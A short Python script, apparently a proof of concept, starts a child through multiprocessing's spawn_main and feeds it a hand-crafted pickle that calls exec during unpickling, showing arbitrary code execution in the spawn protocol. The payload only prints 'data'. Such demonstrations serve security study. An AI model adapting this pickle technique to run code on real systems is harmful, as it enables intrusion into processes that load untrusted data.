"""A child with the text of multiprocessing, sent pickles that call eval: for its preparation, and for its work."""
import os
import pickle
import subprocess
import sys

TEXT = "from multiprocessing.spawn import spawn_main; spawn_main(pipe_handle=%d)"


def send(text, *pickles):
    """Starts a child with a text, and sends it pickles."""
    reading, writing = os.pipe()
    os.set_inheritable(reading, True)
    for each in pickles:
        os.write(writing, each)
    os.close(writing)
    command = [sys.executable, "-c", text % reading, "--multiprocessing-fork"]
    subprocess.run(command, pass_fds=[reading])


evil = b"cbuiltins\nexec\n(S'import os; os.write(1, b\"data\\\\n\")'\ntR."
send(TEXT, evil)
send(TEXT, pickle.dumps({}), evil)
